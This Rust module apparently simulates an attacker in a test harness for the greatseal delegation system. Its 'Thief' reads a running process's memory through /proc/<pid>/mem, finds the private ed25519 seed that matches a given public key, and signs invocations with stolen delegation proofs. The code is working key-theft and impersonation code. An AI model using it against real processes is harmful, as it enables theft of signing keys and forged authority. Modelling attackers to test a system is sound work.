//! A thief with access to the host of a service: he takes the running key out of its memory.
//!
//! Nothing gives the key away, so he tries whatever lies there until one has the public key that
//! the stolen delegation names. On systems without `/proc` he finds nothing.

use std::fs::{self, File};
use std::io::{Read, Seek, SeekFrom};
use std::path::Path;

use ed25519_zebra::{SigningKey, VerificationKeyBytes};
use greatseal_core::key::PublicKey;
use greatseal_core::signature::Signature;
use greatseal_core::{Policy, View};
use greatseal_service::clock::{Clock, SystemClock};

use crate::Fault;
use crate::realm::{invocation, pack};

/// A stolen key, with the delegations that it is worth.
#[derive(Debug)]
pub struct Thief {
    key: SigningKey,
    public: PublicKey,
    proofs: Vec<Vec<u8>>,
}

impl Thief {
    /// Searches a process for the private half of a key.
    ///
    /// # Errors
    /// When there is no such process, or the key is not found.
    pub fn search(pid: u32, public: PublicKey, proofs: Vec<Vec<u8>>) -> Result<Self, Fault> {
        let folder = Path::new("/proc").join(pid.to_string());
        let mut memory = File::open(folder.join("mem"))?;
        for line in fs::read_to_string(folder.join("maps"))?.lines() {
            let mut fields = line.split_whitespace();
            let (Some(range), Some(rights)) = (fields.next(), fields.next()) else { continue };
            let Some((from, to)) = range.split_once('-') else { continue };
            if !rights.starts_with("rw") {
                continue;
            }
            let (from, to) = (u64::from_str_radix(from, 16)?, u64::from_str_radix(to, 16)?);
            let mut region = vec![0; usize::try_from(to - from)?];
            memory.seek(SeekFrom::Start(from))?;
            // Some of it may be gone by now.
            if memory.read_exact(&mut region).is_err() {
                continue;
            }
            let found = region.windows(32).step_by(16).filter_map(|it| it.first_chunk::<32>()).find(|window| {
                looks_random(window) && {
                    let found = VerificationKeyBytes::from(&SigningKey::from_bytes(window));
                    <[u8; 32]>::from(found) == public.as_bytes()
                }
            });
            if let Some(seed) = found {
                return Ok(Self { key: SigningKey::from_bytes(seed), public, proofs });
            }
        }
        Err("the key is not in the memory of that process".into())
    }

    /// Invokes what the stolen delegation allows; returns the statement id beside.
    ///
    /// # Errors
    /// What the format says.
    pub fn invoke(&self, subject: PublicKey, audience: PublicKey, command: &str) -> Result<(String, String), Fault> {
        let unsigned = invocation(self.public, subject, audience, command, &self.proofs)?;
        let signature = Signature::new(self.key.sign(unsigned.request().message()).to_bytes());
        let view = View::new(Policy::Strict, Vec::new(), SystemClock.now());
        let id = unsigned.id().to_string();
        Ok((pack(unsigned.finish(&signature, &view)?.bytes(), &self.proofs)?, id))
    }
}

/// Memory is mostly zeros, pointers and small numbers; eight random bytes are none of these.
fn looks_random(window: &[u8; 32]) -> bool {
    let (words, _) = window.as_chunks::<8>();
    words.iter().all(|word| u64::from_le_bytes(*word) >> 48 != 0)
}
